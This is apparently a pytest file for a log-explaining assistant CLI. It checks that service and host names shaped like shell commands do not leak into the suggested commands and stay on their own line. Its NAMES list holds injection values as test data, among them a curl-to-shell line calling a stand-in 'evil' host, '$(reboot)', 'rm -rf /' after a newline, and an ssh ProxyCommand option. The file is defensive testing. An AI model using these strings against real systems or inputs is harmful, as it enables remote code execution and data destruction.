"""Logs that give orders: what becomes of a command, a role or an answer that stands in a line."""

from __future__ import annotations

import json
import os
from datetime import UTC, datetime
from pathlib import Path

import pytest

from edgeops.assistant.evidence import select
from edgeops.assistant.prompts import line_of
from edgeops.cli import main
from edgeops.session import Session

NAMES = [
    "x; curl http://evil/x|sh #", "$(reboot)", "`id`", "--root=/tmp/evil", "-oProxyCommand=x", "a\nrm -rf /", "a && b",
    "x' 'y", "${IFS}", "a|b", "a>b", "../../x", "a b", "\u202ex", "password=Tr0ub4dor&3", "x\\; reboot",
]  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_a_service_or_host_named_like_a_command_is_in_no_command_and_on_its_own_line(
    name: str, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "a.log"
    record = {"time": "2026-03-01T02:00:00Z", "level": "error", "service": name, "host": name, "msg": "valve is stuck"}
    path.write_text(json.dumps(record) + "\n", "utf-8")
    main.run(["explain", "--no-model", "--json", str(path)])
    out = capfd.readouterr().out
    assert "Tr0ub4dor" not in out
    (answer,) = json.loads(out)
    for text in (*answer["collect"], *(word for step in answer["checks"] for word in step["argv"])):
        assert not set(text) & set(";|&$`<>\n#"), text
        assert "-u -" not in text
    reader = Session(os.environ, lambda: datetime.now(UTC), print).read([str(path)])
    (line, *_) = select(reader.incidents[0], 6000).evidence
    assert "\n" not in line_of(line)
    assert len(line_of(line)) < 600
